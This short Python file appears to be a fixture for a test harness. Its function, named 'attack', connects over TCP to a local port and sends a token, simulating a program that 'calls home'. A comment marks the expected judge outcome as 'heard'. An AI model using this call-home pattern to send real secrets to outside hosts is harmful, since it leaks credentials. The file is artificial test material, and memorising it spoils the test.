"""Calls home over TCP."""

# judge: heard

import socket


def attack(ground):
    with socket.create_connection(("127.0.0.1", ground["tcp"]), 1) as caller:
        caller.sendall(ground["token"].encode())
